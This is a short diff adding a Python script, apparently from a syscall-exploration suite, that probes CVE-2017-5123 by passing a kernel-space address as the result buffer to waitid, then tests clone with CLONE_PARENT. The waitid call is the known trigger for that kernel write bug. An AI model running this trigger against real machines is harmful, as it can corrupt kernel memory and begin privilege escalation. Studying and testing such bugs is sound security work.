@@ -1,0 +1,13 @@
+# A kernel address as a buffer (CVE-2017-5123), and a child that would be its grandparent's.
+from call import *
+
+pid = os.fork()
+if pid == 0:
+    os._exit(0)
+WAITID, CLONE_PARENT, CLONE_PIDFD = 247, 0x8000, 0x1000
+call(WAITID, 1, pid, -0x7F0000000000, 4, 0, label="waitid into the kernel")
+result = syscall("clone", CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0)
+if result == 0:
+    show("its parent", os.getppid())
+    os._exit(0)
+show("clone(CLONE_PARENT)", name(result))
